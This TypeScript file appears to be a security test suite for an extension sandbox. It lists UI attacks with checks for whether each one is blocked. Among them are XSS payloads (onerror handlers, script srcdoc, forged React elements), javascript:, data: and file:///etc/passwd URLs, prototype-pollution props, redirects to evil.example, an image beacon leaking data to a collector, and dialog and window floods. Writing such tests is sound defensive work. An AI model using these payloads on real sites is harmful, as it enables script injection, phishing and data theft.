import type { Attack } from '../attack'

const attack = (id: string, title: string, code: string, rest: Partial<Attack> = {}): Attack => ({
  id: `ui-${id}`,
  title,
  theme: 'interface',
  code: `${code}; await wait(150)`,
  ...rest,
})

const BAD_URLS = [
  'javascript:pwned=1',
  'JaVaScRiPt:pwned=1',
  ' javascript:pwned=1',
  'java\\nscript:pwned=1',
  'java\\tscript:pwned=1',
  '\\u0001javascript:pwned=1',
  'javascript&colon;pwned=1',
  'data:text/html,<script>parent.pwned=1</script>',
  'data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+',
  'vbscript:pwned',
  'blob:http://localhost/x',
  'file:///etc/passwd',
  'filesystem:http://localhost/x',
  'view-source:https://example.com',
  'http://example.com',
  '//evil.example',
  '/api/souk/installations',
  'https:evil.example\\u0000javascript:',
  'about:blank',
  'intent://x',
]

const urls = `[${BAD_URLS.map((address) => `'${address}'`).join(', ')}]`

/** What an extension draws and asks of the product, through the components and services it really has. */
export const userInterface: readonly Attack[] = [
  ...[
    'script',
    'iframe',
    'img',
    'div',
    'style',
    'a',
    'form',
    'object',
    'svg',
    'Unknown',
    '__proto__',
    'constructor',
    'toString',
    'hasOwnProperty',
    '#text',
    '#root',
  ].map((name) =>
    attack(
      `component-${name.replaceAll(/[^a-z]/gi, '').toLowerCase()}${/[^a-z]/i.test(name) ? '-odd' : ''}`,
      `the component ${name}`,
      `show(h('${name}', { src: url('component'), href: url('component'), title: 'cagemark' }, 'unauthorised')); await wait(200)`,
      {
        seen: `return box.textContent.includes('unauthorised') ? 'it was drawn' : undefined`,
      },
    ),
  ),
  attack(
    'style',
    'a style that covers the page',
    `show(guard(h('Panel', { title: 'p', style: { position: 'fixed', inset: 0, background: 'red', zIndex: 99, '--cagemark': 1 } }, 'x')))`,
  ),
  attack(
    'style-standard',
    'a style on every standard component',
    `show(['Stack', 'Text', 'Card', 'Button', 'Link', 'Badge', 'Alert', 'Section'].map((name) => guard(h(name, { key: name, style: { position: 'fixed', inset: 0, '--cagemark': 1 }, label: 'x', href: 'https://example.com', title: 'x' }, 'x'))))`,
  ),
  attack(
    'class-name',
    'a class of the product',
    `show(guard(h('Panel', { className: 'souk-overlay cagemark', class: 'souk-overlay cagemark', id: 'cagemark' }, 'x')))`,
  ),
  attack(
    'inner-html',
    'markup as a prop',
    `show(guard(h('Panel', { dangerouslySetInnerHTML: { __html: '<img src=x onerror="pwned=1"><iframe></iframe>' }, innerHTML: '<script>pwned=1</script>' })))`,
    { settleMs: 500 },
  ),
  attack(
    'html-text',
    'markup as text',
    `show(h('Stack', null, h('Text', null, '<img src=x onerror="pwned=1"><script>pwned=1</script>'), h('Heading', { level: '1' }, '<iframe srcdoc="<script>parent.pwned=1</script>">'), h('Code', null, '{{constructor.constructor("pwned=1")()}}')))`,
    { settleMs: 400 },
  ),
  attack(
    'on-strings',
    'handlers as text',
    `show(guard(h('Panel', { onclick: 'pwned=1', onClick: 'pwned=1', onMouseOver: 'pwned=1', onLoad: 'pwned=1', ONERROR: 'pwned=1' }, h('Button', { label: 'press', onpress: 'pwned=1' }))))`,
    { allows: ['the focus'], press: true },
  ),
  attack(
    'on-functions',
    'handlers that the contract does not have',
    `show(guard(h('Panel', { onMouseMove: () => {}, onKeyDown: () => say('evaluated', 'key'), onClickCapture: () => {}, onFocus: () => {} }, 'x')))`,
    {
      seen: `return cage.lines.some((line) => line.startsWith('cage:evaluated:' + box.dataset.attack)) ? 'it hears keys' : undefined`,
    },
  ),
  attack(
    'ref',
    'refs as text and objects',
    `show(guard(h('Panel', { ref: 'x' }, 'x'))); await wait(100); show(guard(h('Panel', { key: '__proto__', ref: { current: null } }, 'x')))`,
  ),
  attack(
    'children-prop',
    'children as a prop',
    `show(guard(h('Panel', { children: { $$typeof: Symbol.for('react.element'), type: 'script', props: { children: 'pwned=1' }, ref: null, key: null } })))`,
  ),
  attack(
    'fake-element',
    'a React element as plain data',
    `for (const kind of ['react.element', 'react.transitional.element']) { show(guard(h('DescriptionList', { items: [{ label: 'x', value: { $$typeof: kind, type: 'iframe', props: { srcDoc: '<script>parent.pwned=1</script>' }, key: null, ref: null } }] }))); await wait(100) }`,
  ),
  attack(
    'element-props',
    'props that change what an element is',
    `show(guard(h('Panel', { is: 'x', as: 'iframe', tagName: 'script', srcDoc: '<script>parent.pwned=1</script>', contentEditable: true, tabIndex: 1, autoFocus: true, popover: 'auto', inert: true, nonce: 'x', formAction: 'javascript:pwned=1', action: 'javascript:pwned=1' }, 'x')))`,
  ),
  attack(
    'prototype-props',
    'prototype keys as props',
    `show(guard(h('Panel', JSON.parse('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"title":"x"}'), 'x'))); await wait(80); show(guard(h('DescriptionList', { items: [JSON.parse('{"label":"a","value":"b","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}')] })))`,
  ),
  attack(
    'link-javascript',
    'addresses in a link that are no addresses',
    `show(h('Stack', null, ${urls}.map((href, key) => guard(h('Link', { key, href }, 'link ' + key)))))`,
    { press: true, allows: ['the focus'], alone: true },
  ),
  attack(
    'link-more',
    'a link that opens in the page, downloads and pings',
    `show(guard(h('Link', { href: 'mailto:a@b.example', target: '_top', rel: 'opener', download: 'x.exe', ping: url('ping') }, 'link')))`,
    {
      seen: `const link = box.querySelector('a'); return link && (link.target === '_top' || link.download || link.ping || /opener(?<!noopener)/.test(link.rel)) ? link.outerHTML : undefined`,
    },
  ),
  attack(
    'image-url',
    'addresses in an image that are no pictures',
    `show(h('Stack', null, [...${urls}, url('image.png'), 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwned=1"/>', 'data:image/svg+xml;base64,PHN2Zz4='].map((src, key) => guard(h('Image', { key, src, alt: 'x' })))))`,
    { settleMs: 500 },
  ),
  attack(
    'avatar-url',
    'addresses in an avatar that are no pictures',
    `show(h('Stack', null, [...${urls}, url('avatar.png')].map((src, key) => guard(h('Avatar', { key, src, name: 'x' })))))`,
    { settleMs: 500 },
  ),
  attack(
    'image-attributes',
    'an image with more sources',
    `show(guard(h('Image', { src: 'data:image/png;base64,AAAA', alt: 'x', srcSet: url('srcset.png') + ' 2x', crossOrigin: 'use-credentials', onError: 'pwned=1', referrerPolicy: 'unsafe-url', usemap: '#x' })))`,
    { settleMs: 400 },
  ),
  attack(
    'image-https',
    'an image on a server of the attacker, with data in its address',
    `show(h('Image', { src: 'https://127.0.0.1:' + TARGET.collectorPort + '/?stolen', alt: 'x' })); await wait(400)`,
    {
      settleMs: 600,
      notBlockable: {
        modes: ['origin', 'opaque'],
        because:
          "The contract lets an Image show any https: address, and an address carries data. A product that does not want that lists the hosts it trusts in its own `img-src`, or leaves Image and Avatar's `src` out of its contract.",
      },
    },
  ),
  attack(
    'password-field',
    'a form that sends itself elsewhere',
    `show(guard(h('Form', { action: url('form'), method: 'post', target: '_blank', label: 'Sign in' }, h('Input', { type: 'file', label: 'Password', formAction: url('form'), autoFocus: true, autocomplete: 'current-password' }), h('Button', { type: 'submit', label: 'Send', formAction: url('form') }))))`,
    {
      press: true,
      alone: true,
      seen: `return box.querySelector('input[type=file], [formaction], form[action^=http]') ? box.innerHTML.slice(0, 200) : undefined`,
    },
  ),
  attack(
    'autofocus',
    'take the focus while the user types elsewhere',
    `show(h('Input', { label: 'x', autoFocus: true, tabIndex: 0 })); await wait(200)`,
    { alone: true },
  ),
  attack(
    'focus-method',
    "take the focus through a component's methods",
    `const ref = { current: null }; show(guard(h('Input', { label: 'x', ref }))); await wait(300); for (let i = 0; i < 5; i++) { await attempt('focus', () => ref.current.focus()); await wait(50) } for (const method of ['focus', 'select', 'scrollIntoView', 'click', 'remove', 'constructor', '__proto__']) await ask('call-method', { rootId, nodeId: 3, node: 3, id: 3, method, args: [] })`,
    { alone: true },
  ),
  attack(
    'slot',
    'slots that the component does not have',
    `show(guard(h('Panel', null, h('#slot', { name: 'dangerouslySetInnerHTML' }, 'unauthorised'), h('#slot', { name: '__proto__' }, 'unauthorised'), h('#slot', { name: 'style' }, 'unauthorised'))))`,
    { seen: `return box.textContent.includes('unauthorised') ? 'it was drawn' : undefined` },
  ),
  attack(
    'title',
    'change the title and the heading of the page',
    `globalThis.document = { title: 'x' }; show(h('Panel', { title: 'The product' }, h('Heading', { level: '1' }, 'The product')))`,
  ),
  attack('bidi', 'text that turns what follows around', `show(h('Text', null, '\\u202e\\u2066'.repeat(200) + 'x'))`),
  attack(
    'dialog-flood',
    'a hundred dialogs',
    `for (let i = 0; i < 100; i++) void ask('open-dialog', { dialogId: 'd' + i, title: 'dialog ' + i, size: 'small' }); await wait(600)`,
    {
      alone: true,
      seen: `const count = document.querySelectorAll('[role=dialog]').length; return count > 5 ? count + ' dialogs stand over the page' : undefined`,
      allows: ['the focus', 'covered points'],
    },
  ),
  attack(
    'dialog-reopen',
    'a dialog that is opened again whenever it is closed',
    `for (let i = 0; i < 40; i++) { await ask('open-dialog', { dialogId: 'r' + i, title: 'again', size: 'large' }); await ask('close-dialog', { dialogId: 'r' + i }) }`,
    {
      alone: true,
      allows: ['the focus', 'covered points'],
      seen: `return cage.dialogs > 10 ? cage.dialogs + ' dialogs were opened one after another' : undefined`,
    },
  ),
  attack(
    'dialog-focus',
    'take the focus with a dialog',
    `await ask('open-dialog', { dialogId: 'x', title: 'x', size: 'small' }); await wait(300)`,
    {
      alone: true,
      notBlockable: {
        modes: ['origin', 'opaque'],
        because:
          'A dialog and a question take the focus: that is what the contract offers, as a product does itself. They name the app, are closed with Escape, and come at a limited rate.',
      },
    },
  ),
  attack(
    'dialog-as-product',
    "a dialog that looks like the product's own",
    `await ask('open-dialog', { dialogId: 'x', title: 'The product: sign in again', size: 'small' }); await wait(400)`,
    {
      alone: true,
      seen: `const dialog = document.querySelector('[role=dialog]'); return dialog && !dialog.textContent.includes(box.dataset.attack) ? 'the dialog does not say which app has opened it: ' + dialog.textContent.slice(0, 60) : undefined`,
      allows: ['the focus', 'covered points'],
    },
  ),
  attack(
    'confirm-as-product',
    "a question that looks like the product's own",
    `void ask('confirm', { title: 'The product: delete everything?' }); await wait(400)`,
    {
      alone: true,
      seen: `const dialog = document.querySelector('[role=alertdialog]'); return dialog && !dialog.textContent.includes(box.dataset.attack) ? 'the question does not say which app asks: ' + dialog.textContent.slice(0, 60) : undefined`,
      allows: ['the focus', 'covered points'],
    },
  ),
  attack(
    'confirm-flood',
    'a hundred questions',
    `for (let i = 0; i < 100; i++) void ask('confirm', { title: 'question ' + i, description: 'x'.repeat(2000) }); await wait(500)`,
    {
      alone: true,
      seen: `const count = document.querySelectorAll('[role=alertdialog]').length; return count > 1 ? count + ' questions stand over the page' : undefined`,
      allows: ['the focus', 'covered points'],
    },
  ),
  attack(
    'toast-flood',
    'two hundred toasts',
    `for (let i = 0; i < 150; i++) void ask('show-toast', { title: 'toast ' + i, description: 'x'.repeat(900), variant: 'error' }); await wait(800)`,
    {
      alone: true,
      seen: `const count = document.querySelectorAll('.souk-toast').length; return count > 4 ? count + ' toasts at once' : undefined`,
    },
  ),
  attack(
    'navigate-out',
    'navigate out of the product',
    `for (const path of ['//evil.example', '/\\\\evil.example', '/\\t/evil.example', '/\\n/evil.example', 'javascript:pwned=1', 'https://evil.example', '\\\\\\\\evil.example', '/..//evil.example', '/.//evil.example', '/%2f/evil.example', 'data:text/html,x', '']) await ask('navigate', { path })`,
    {
      alone: true,
      seen: `const bad = cage.navigations.filter((path) => !path.startsWith('/') || path.startsWith('//') || new URL(path, location.origin).origin !== location.origin); return bad.length > 0 ? 'the product was asked to go to ' + bad.join() : undefined`,
      allows: ['address', 'history'],
    },
  ),
  attack(
    'navigate-flood',
    'fill the history with paths of the product',
    `for (let i = 0; i < 90; i++) void ask('navigate', { path: '/page/' + i }); await wait(1200)`,
    {
      alone: true,
      seen: `return cage.navigations.length > 10 ? 'the page was moved ' + cage.navigations.length + ' times in a second' : undefined`,
      allows: ['address', 'history'],
    },
  ),
  attack(
    'open-url',
    'open addresses that are none',
    `for (const address of [...${urls}, 'javascript:alert(1)', 'https:alert']) await ask('open-url', { url: address })`,
    { allows: ['one window was opened'], alone: true },
  ),
  attack(
    'open-url-flood',
    'open a hundred windows',
    `for (let i = 0; i < 100; i++) void ask('open-url', { url: 'https://example.invalid/' + i }); await wait(700)`,
    { allows: ['one window was opened'], alone: true },
  ),
  attack(
    'open-url-press',
    'open ten windows at one press',
    `show(h('Button', { label: 'press', onPress: () => { for (let i = 0; i < 10; i++) void ask('open-url', { url: 'https://example.invalid/' + i }) } }))`,
    {
      alone: true,
      press: true,
      settleMs: 800,
      allows: ['one window was opened', 'the focus'],
    },
  ),
  attack(
    'open-record',
    'open a record with odd ids',
    `for (const recordId of ['../../admin', '__proto__', 'javascript:pwned=1', '<img src=x onerror=pwned=1>']) await ask('open-record', { recordType: recordId, recordId })`,
  ),
  attack(
    'browser-apis',
    'show notifications, prompts and windows from the worker',
    `for (const act of [() => alert('x'), () => confirm('x'), () => prompt('x'), () => print(), () => open(url('x')), () => new Notification('x'), () => navigator.vibrate(9), () => navigator.share({ text: 'x' }), () => navigator.clipboard.writeText('hostile'), () => location.assign(url('x')), () => { location.href = url('x') }, () => close.call(null), () => registration.showNotification('x')]) await attempt('api', act)`,
    { alone: true },
  ),
  attack(
    'many-attributes',
    'names of attributes that are odd',
    `show(guard(h('Panel', Object.fromEntries([...Array(200)].map((_, i) => ['data-x' + i, 'cagemark'])), 'x')))`,
    { seen: `return box.querySelector('[data-x1]') ? 'its attributes were drawn' : undefined` },
  ),
]
